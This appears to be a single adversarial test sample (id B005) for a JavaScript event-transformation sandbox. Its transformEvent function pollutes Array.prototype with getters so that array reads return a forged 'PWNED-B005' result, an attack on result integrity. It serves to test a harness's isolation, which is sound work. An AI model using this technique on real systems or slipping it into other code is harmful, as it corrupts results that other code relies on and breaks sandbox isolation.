// id: B005
// goal: forge results through setters on Array.prototype
export function transformEvent(event) {
  for (const index of ["0", "1", "2"]) {
    Object.defineProperty(Array.prototype, index, { set() { }, get() { return ['{"x":"PWNED-B005"}\n{"y":1}']; }, configurable: true });
  }
  return { messageId: event.messageId };
}
